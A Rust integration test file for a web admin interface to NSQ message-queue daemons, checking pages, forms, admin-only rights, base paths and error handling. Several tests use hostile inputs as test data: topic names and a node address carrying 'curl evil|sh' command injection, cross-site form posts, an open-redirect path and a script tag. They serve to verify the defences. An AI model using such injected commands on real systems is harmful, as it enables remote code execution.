//! nsqadmin's pages in front of scripted daemons: what people see and do, with and without rights, under a
//! path of its own, and when somebody does not answer.

mod house;

use house::House;

#[tokio::test]
async fn an_empty_cluster_teaches_how_to_begin() {
    let house = House::new().await;
    let page = house.get("/").await;
    assert_eq!(page.status, 200);
    page.says(&[
        "Send your first message",
        "curl -d hello &#x27;http:&#x2f;&#x2f;127.0.0.1:4151&#x2f;pub?topic=test&#x27;",
        "eyrie nsqd --lookupd-tcp-address=127.0.0.1:4160",
    ]);
    house.get("/nodes").await.says(&["No nsqd has registered yet"]);
    house.get("/counter").await.says(&["Nothing to count yet"]);
    house.get("/lookup").await.says(&["None: every topic is on at least one nsqd."]);
    house.end().await;
}

#[tokio::test]
async fn streams_show_every_topic_and_what_waits() {
    let house = House::new().await;
    house.fill();
    let page = house.get("/").await;
    page.says(&["2 topics", "1 node", "href=\"/topics/orders\"", "on no node", "1,204,897"]);
    let found = house.get("/?q=ORD").await;
    assert!(found.text.contains("topics/orders\"") && !found.text.contains("topics/returns\""));
    house.get("/?q=nope").await.says(&["No topic has <b>nope</b> in its name."]);
    let deepest = house.get("/?sort=depth").await.text;
    assert!(deepest.find("topics/orders\"") < deepest.find("topics/returns\""));
    assert!(!page.text.contains(" style=\""), "the policy forbids inline styles");
    assert!(page.header("content-security-policy").contains("default-src 'self'"));
    house.end().await;
}

#[tokio::test]
async fn names_stand_as_people_count() {
    let house = House::new().await;
    house.lookupd.says("/topics", 200, r#"{"topics":["jobs-10","jobs-9","Jobs-8"]}"#);
    let page = house.get("/").await.text;
    let place = |name: &str| page.find(&format!("<span class=\"name\">{name}<")).expect(name);
    assert!(place("Jobs-8") < place("jobs-9") && place("jobs-9") < place("jobs-10"));
    house.end().await;
}

#[tokio::test]
async fn a_topic_shows_its_channels_and_nodes() {
    let house = House::new().await;
    house.fill();
    house.get("/topics/orders").await.says(&[
        "<h1>orders</h1>",
        "&#x2f;topics&#x2f;orders/billing\">billing</a>",
        "paused",
        "p99</span> 84.2 ms",
        "1.5 KiB",
        "The 2 messages waiting in the topic itself will be lost.",
        "its 2 channels and 1,204,897 waiting messages will be lost on 1 node",
    ]);
    let name_only = house.get("/topics/returns").await;
    name_only.says(&[
        "No nsqd has this topic",
        "with the channel <a href=\"&#x2f;topics&#x2f;returns/archive\">archive</a>",
    ]);
    let missing = house.get("/topics/nope").await;
    assert_eq!(missing.status, 404);
    missing.says(&["There is no topic nope.", "No such topic"]);
    house.end().await;
}

#[tokio::test]
async fn a_channel_shows_who_consumes_it() {
    let house = House::new().await;
    house.fill();
    let page = house.get("/topics/orders/billing").await;
    page.says(&[
        "billing-<wbr>1.<wbr>example.<wbr>net",
        "go-nsq&#x2f;1.1.0&lt;b&gt;",
        "TLS</span>",
        "snappy",
        "deflate",
        "sample 10 %",
        "auth billing",
        "eu-1a",
        "3 h 10 min",
        "1 consumer will be disconnected",
    ]);
    assert!(!page.text.contains("javascript:"), "an address of the auth server is a link only if it is one");
    house.get("/topics/orders/archive").await.says(&["Nobody is connected", "Unpause"]);
    assert_eq!(house.get("/topics/orders/nope").await.status, 404);
    assert_eq!(house.get("/topics/nope/nope").await.status, 404);
    house.end().await;
}

#[tokio::test]
async fn a_node_shows_what_it_holds() {
    let house = House::new().await;
    house.fill();
    let node = house.nsqd.address.clone();
    let place = house.lookupd.address.rsplit(':').next().expect("host:port").to_owned();
    house.get("/nodes").await.says(&["queue-<wbr>1", "1.3.0", &place, "href=\"/topics/orders\">orders</a>"]);
    let page = house.get(&format!("/nodes/{node}")).await;
    page.says(&[
        "orders",
        "billing",
        "Tombstone it here",
        "billing-<wbr>1.<wbr>example.<wbr>net",
        "orders&#x2f;billing",
    ]);
    // A line of a topic's page leads here with the topic chosen.
    house.get("/topics/orders").await.says(&["?off=orders#tombstone"]);
    let chosen = house.get(&format!("/nodes/{node}?off=orders")).await;
    chosen.says(&["id=\"tombstone\" open", "<option selected>orders</option>"]);
    assert_eq!(house.get("/nodes/nope:1").await.status, 404);
    house.end().await;
}

#[tokio::test]
async fn forms_change_the_cluster_and_lead_back() {
    let house = House::new().await;
    house.fill();
    let check = async |path: &str, form: &str, to: &str, lookupd: &[&str], nsqd: &[&str]| {
        let answer = house.post(path, form).await;
        assert_eq!((answer.status, answer.header("location")), (303, to), "{path} {form}");
        assert_eq!((house.lookupd.posts(), house.nsqd.posts()), (strings(lookupd), strings(nsqd)), "{path}");
    };
    let pause = "/channel/pause?topic=orders&channel=billing";
    check("/topics/orders/billing", "action=pause", "/topics/orders/billing?done=pause", &[], &[pause]).await;
    check("/topics/orders", "action=empty", "/topics/orders?done=empty", &[], &["/topic/empty?topic=orders"])
        .await;
    let gone = "/channel/delete?topic=orders&channel=billing";
    let to = "/topics/orders?done=delete-channel";
    check("/topics/orders/billing", "action=delete", to, &[gone], &[gone]).await;
    let gone = "/topic/delete?topic=orders";
    check("/topics/orders", "action=delete", "/?done=delete&what=orders", &[gone], &[gone]).await;
    let made = ["/topic/create?topic=orders", "/channel/create?topic=orders&channel=c"];
    check("/topics", "topic=orders&channel=c", "/topics/orders?done=create", &made, &made[1..]).await;
    let node = house.nsqd.address.clone();
    let escaped = node.replace('.', "%2E").replace(':', "%3A");
    let stone = format!("/topic/tombstone?topic=orders&node={}", node.replace(':', "%3A"));
    let to = format!("/nodes/{escaped}?done=tombstone");
    check(&format!("/nodes/{node}"), "topic=orders", &to, &[&stone], &[gone]).await;

    house.get("/?done=delete&what=orders").await.says(&["<b>orders</b> is deleted everywhere."]);
    let made_up = house.get("/?done=delete&what=%3Cscript%3E").await;
    assert!(!made_up.text.contains("is deleted"), "only names are said back");
    house.end().await;
}

fn strings(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}

#[tokio::test]
async fn what_cannot_be_done_is_said() {
    let house = House::new().await;
    house.fill();
    let check = async |path: &str, form: &str, status: u16, text: &str| {
        let answer = house.post(path, form).await;
        assert_eq!(answer.status, status, "{path} {form}");
        answer.says(&[text]);
    };
    check("/topics", "topic=bad!", 400, "A name has 1 to 64 of the characters").await;
    check("/topics", "topic=", 400, "A name has 1 to 64 of the characters").await;
    check("/topics/orders", "action=explode", 400, "There is no such action.").await;
    check("/topics/nope", "action=pause", 502, "Nobody answered").await;
    house.nsqd.says("/topic/pause", 500, "disk");
    let partly = house.post("/topics/orders", "action=pause").await;
    partly.says(&["Only partly done", "Pausing the topic orders", "500 Internal Server Error"]);
    house.end().await;
}

#[tokio::test]
async fn those_who_may_only_look_have_no_buttons_and_no_way_around() {
    let house = House::with(|options| options.admin_users = vec!["ann".to_owned()]).await;
    house.fill();
    for path in ["/topics/orders", "/topics/orders/billing", "/lookup", "/"] {
        let page = house.get(path).await;
        assert_eq!(page.status, 200, "{path}");
        assert!(!page.text.contains("method=\"post\""), "{path}: {}", page.text);
    }
    let refused = house.post("/topics/orders", "action=delete").await;
    assert_eq!(refused.status, 403);
    refused.says(&["Only admins may change something here."]);
    assert!(house.lookupd.posts().is_empty() && house.nsqd.posts().is_empty());
    house.end().await;
}

#[tokio::test]
async fn pages_of_other_sites_change_nothing() {
    let house = House::new().await;
    house.fill();
    let form = house.post_from("http://evil.example", "/topics/orders", "action=delete").await;
    assert_eq!(form.status, 403);
    let api = house.post_from("http://evil.example", "/api/topics/orders", r#"{"action":"pause"}"#).await;
    assert_eq!((api.status, api.text.as_str()), (403, r#"{"message":"FORBIDDEN"}"#));
    assert!(house.lookupd.posts().is_empty() && house.nsqd.posts().is_empty());
    house.end().await;
}

#[tokio::test]
async fn those_who_do_not_answer_are_named() {
    let house = House::new().await;
    house.fill();
    house.nsqd.says("/stats", 500, "no");
    for path in ["/", "/topics/orders", "/counter"] {
        house.get(path).await.says(&["Some did not answer", "500 Internal Server Error"]);
    }
    house.lookupd.says("/topics", 500, "no").says("/nodes", 500, "no");
    let nobody = house.get("/").await;
    assert_eq!(nobody.status, 502);
    nobody.says(&["Nobody answered", "No nsqlookupd answered as it should.", "500 Internal Server Error"]);
    house.end().await;
}

#[tokio::test]
async fn everything_moves_under_a_base_path() {
    let house = House::with(|options| options.base_path = "/queue/".to_owned()).await;
    house.fill();
    let page = house.get("/queue").await;
    assert_eq!(page.status, 200);
    page.says(&["href=\"&#x2f;queue/nodes\"", "data-base=\"&#x2f;queue\"", "action=\"&#x2f;queue/\""]);
    assert_eq!(house.get("/queue/").await.header("location"), "/queue");
    assert_eq!(house.get("/queue/ping").await.text, "OK");
    assert_eq!(house.get("/queue/api/topics").await.text, r#"{"topics":["orders","returns"],"message":""}"#);
    let paused = house.post("/queue/topics/orders", "action=pause").await;
    assert_eq!(paused.header("location"), "/queue/topics/orders?done=pause");
    assert_eq!(house.get("/nodes").await.status, 404);
    let style = page.text.split("stylesheet\" href=\"").nth(1).and_then(|rest| rest.split('"').next());
    let style = style.expect("a stylesheet").replace("&#x2f;", "/");
    if eyrie_web::assets::path("nsqadmin.css").is_some() {
        let css = house.get(&style).await;
        assert_eq!(css.status, 200, "{style}");
        assert!(css.text.contains("url(\"./inter-") || css.text.contains("url(./inter-"), "fonts beside it");
    }
    house.end().await;
}

#[tokio::test]
async fn what_is_not_there_is_a_page_for_people_and_a_code_for_programs() {
    let house = House::new().await;
    let page = house.get("/nope").await;
    assert_eq!(page.status, 404);
    page.says(&["<!doctype html>", "There is no such page here."]);
    let api = house.get("/api/nope").await;
    assert_eq!((api.status, api.text.as_str()), (404, r#"{"message":"NOT_FOUND"}"#));
    assert_eq!(house.get("/nodes/").await.header("location"), "/nodes");
    let elsewhere = house.get("//evil.example/").await;
    assert_eq!((elsewhere.status, elsewhere.header("location")), (404, ""), "not led away");
    house.end().await;
}

/// A page of what is not there has nothing to follow: the page's script sees it by `data-answer`.
#[tokio::test]
async fn what_is_missing_comes_with_what_to_do_and_is_not_asked_for_again() {
    let house = House::new().await;
    house.fill();
    let node = house.nsqd.address.replace('/', "");
    let check = async |path: &str, parts: &[&str]| {
        let page = house.get(path).await;
        assert_eq!(page.status, 404, "{path}");
        page.says(&["data-answer", "Look again"]).says(parts);
    };
    let publish = format!("curl -d hello &#x27;http:&#x2f;&#x2f;{node}&#x2f;pub?topic=nope&#x27;");
    check("/topics/nope", &["No such topic", &publish, "Make the topic now", "q=nope"]).await;
    let consume = "nsq_tail --topic=orders --channel=nope --nsqd-tcp-address=127.0.0.1:4150";
    check(
        "/topics/orders/nope",
        &["No such channel", consume, "Make the channel now", "To the topic orders"],
    )
    .await;
    check("/nodes/nope:1", &["No such node", "eyrie nsqd --lookupd-tcp-address=127.0.0.1:4160"]).await;
    let odd = house.get("/topics/no%20name").await;
    assert!(odd.status == 404 && !odd.text.contains("Make the topic"), "no topic can be called so");
    house.end().await;

    let house = House::with(|options| options.admin_users = vec!["ann".to_owned()]).await;
    house.fill();
    let looks = house.get("/topics/nope").await;
    assert!(!looks.text.contains("method=\"post\""), "who may only look makes nothing: {}", looks.text);
    house.end().await;
}

/// What is copied from a page is pasted into a shell: neither whoever sends a link nor a machine that registers
/// at an nsqlookupd chooses what it runs.
#[tokio::test]
async fn no_line_to_copy_holds_what_a_stranger_would_have_run() {
    let house = House::new().await;
    house.fill();
    for path in ["/topics/a%3Bcurl%20evil%7Csh%0A", "/topics/orders/a%3Bcurl%20evil%7Csh%0A"] {
        let page = house.get(path).await;
        page.says(&["Nothing can be called so"]);
        assert!(page.status == 404 && !page.text.contains("data-copy"), "{path}: {}", page.text);
    }
    house.end().await;

    // An nsqd by its own word, which answers nothing.
    let house = House::new().await;
    let producer = r#"{"producers":[{"remote_address":"127.0.0.1:5","hostname":"q","version":"1.3.0",
        "broadcast_address":"q;curl evil|sh;","tcp_port":4150,"http_port":1,"tombstones":[],"topics":[]}]}"#;
    house.lookupd.says("/nodes", 200, producer);
    house.lookupd.says("/lookup?topic=returns", 200, r#"{"producers":[]}"#);
    house.lookupd.says("/channels?topic=returns", 200, r#"{"channels":["archive"]}"#);
    for path in ["/", "/counter", "/topics/nope", "/topics/returns", "/topics/returns/archive"] {
        if path == "/topics/returns" {
            house.lookupd.says("/topics", 200, r#"{"topics":["returns"]}"#);
        }
        let page = house.get(path).await;
        page.says(&["No line to copy"]);
        for copied in page.text.split("data-copy=\"").skip(1) {
            let copied = copied.split('"').next().expect("its text");
            assert!(!copied.contains("evil"), "{path}: {copied}");
        }
    }
    house.end().await;
}

#[tokio::test]
async fn an_answer_to_a_form_stays_and_one_that_waits_for_others_does_not() {
    let house = House::new().await;
    let refused = house.post("/topics", "topic=bad!").await;
    refused.says(&["data-answer", "href=\"&#x2f;lookup\">Back</a>"]);
    house.lookupd.says("/topics", 500, "no").says("/nodes", 500, "no").says("/lookup", 500, "no");
    let failed = house.post("/topics/orders", "action=pause").await;
    assert_eq!(failed.status, 502);
    failed.says(&["data-answer", "&#x2f;topics&#x2f;orders\">Back</a>"]);
    let waits = house.get("/").await;
    assert_eq!(waits.status, 502);
    waits.says(&["data-waits", "looks again by itself"]);
    assert!(!waits.text.contains("data-answer"));
    house.end().await;
}

#[tokio::test]
async fn first_messages_are_sent_to_a_node_that_is_there() {
    let house = House::new().await;
    house.fill();
    let named_only = house.get("/topics/returns").await;
    let node = house.nsqd.address.clone();
    named_only.says(&[&format!("curl -d hello &#x27;http:&#x2f;&#x2f;{node}&#x2f;pub?topic=returns")]);
    assert!(!named_only.text.contains("4151"), "no port of nobody");
    house.end().await;
}

#[tokio::test]
async fn a_channel_that_is_a_name_only_can_be_forgotten() {
    let house = House::new().await;
    house.fill();
    house.get("/lookup").await.says(&["href=\"&#x2f;topics&#x2f;returns/archive\"", "Delete archive"]);
    let page = house.get("/topics/returns/archive").await;
    assert_eq!(page.status, 200);
    page.says(&["No nsqd has this channel", "Delete archive"]);
    let gone = house.post("/topics/returns/archive", "action=delete").await;
    assert_eq!(gone.header("location"), "/topics/returns?done=delete-channel");
    assert_eq!(house.lookupd.posts(), ["/channel/delete?topic=returns&channel=archive"]);
    house.end().await;
}

#[tokio::test]
async fn what_went_wrong_is_said_for_people_and_kept_for_experts() {
    let house = House::new().await;
    house.fill();
    let port = house.nsqd.address.rsplit(':').next().expect("host:port").to_owned();
    house.nsqd.says("/stats", 200, "<html>");
    house.get("/topics/orders").await.says(&[
        &format!("nsqd at 127.<wbr>0.<wbr>0.<wbr>1:<wbr>{port}</b> answered, but not as an nsqd does."),
        "<details><summary>Details</summary><code>http:&#x2f;&#x2f;127.0.0.1",
    ]);
    house.nsqd.says("/stats", 500, "disk");
    house.get("/topics/orders").await.says(&["answered that it cannot do this", "got response 500"]);
    house.lookupd.says("/lookup?topic=orders", 200, nobody_there());
    house.get("/topics/orders").await.says(&["cannot be reached. Is it running"]);
    house.end().await;
}

/// An nsqd that registered and is not there any more: port 1 of this machine, which nobody listens at.
fn nobody_there() -> &'static str {
    r#"{"producers":[{"broadcast_address":"127.0.0.1","http_port":1,"topics":["orders"]}]}"#
}

#[tokio::test]
async fn graphite_shows_longer_times_where_there_is_one() {
    let house = House::with(|options| options.graphite_url = "http://graphite.example".to_owned()).await;
    house.fill();
    let link = "href=\"http:&#x2f;&#x2f;graphite.example&#x2f;render?";
    house.get("/topics/orders").await.says(&[link, "a day in Graphite", "topic%2Eorders%2Emessage%5Fcount"]);
    house.end().await;
}

#[tokio::test]
async fn rates_and_depths_are_drawn_with_their_gaps() {
    let house = House::new().await;
    house.fill();
    house.get("/").await.says(&["Measured while somebody looks"]);
    let clock = house.admin.clock().clone();
    let seen = std::sync::atomic::AtomicUsize::new(0);
    let page = base::testkit::eventually(std::time::Duration::from_secs(30), "a chart", async || {
        let page = house.get("/topics/orders").await;
        // Each new sample draws another point: let the next one come two seconds later.
        if page.text.len() != seen.swap(page.text.len(), std::sync::atomic::Ordering::Relaxed) {
            clock.advance(std::time::Duration::from_secs(2));
        }
        page.text.contains("class=\"chart\"").then_some(page)
    })
    .await;
    page.says(&["Messages waiting in orders", "<svg xmlns="]);
    house.end().await;
}
